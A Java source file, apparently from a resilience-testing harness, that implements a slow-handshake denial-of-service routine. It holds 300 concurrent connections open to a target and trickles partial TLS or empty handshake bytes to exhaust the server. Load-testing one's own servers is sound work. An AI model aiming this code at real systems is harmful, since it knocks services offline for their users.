package dev.hawser.harm.siege;

import dev.hawser.Address;
import java.io.IOException;
import java.net.Socket;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;

/// Handshakes that say a byte now and then. Half of them begin like TLS, half like nothing.
final class SlowHandshakes implements Attacker.Assault {
  private static final int AT_ONCE = 300;
  private static final long BETWEEN_BYTES = TimeUnit.MILLISECONDS.toNanos(100);
  private static final byte[] TLS_RECORD = {0x16, 3, 1, 0x10, 0, 1, 0, 0x0f, (byte) 0xfc, 3, 3};

  private final Address target;
  private final Elsewhere from;
  private final AtomicBoolean over;
  private final AtomicLong begun = new AtomicLong();

  SlowHandshakes(Address target, Elsewhere from, AtomicBoolean over) {
    this.target = target;
    this.from = from;
    this.over = over;
  }

  @Override
  public void begin() {
    for (int i = 0; i < AT_ONCE; i++) {
      boolean tls = i % 2 == 0;
      Thread.ofVirtual().start(() -> dawdle(tls));
    }
  }

  private void dawdle(boolean tls) {
    while (!over.get()) {
      try (Socket socket = from.connect(target)) {
        begun.incrementAndGet();
        for (int at = 0; !over.get(); at++) {
          socket.getOutputStream().write(tls && at < TLS_RECORD.length ? TLS_RECORD[at] : 0);
          LockSupport.parkNanos(BETWEEN_BYTES);
        }
      } catch (IOException turnedAway) {
        LockSupport.parkNanos(BETWEEN_BYTES);
      }
    }
  }

  @Override
  public String done() {
    return begun + " slow handshakes, " + AT_ONCE + " at once";
  }
}
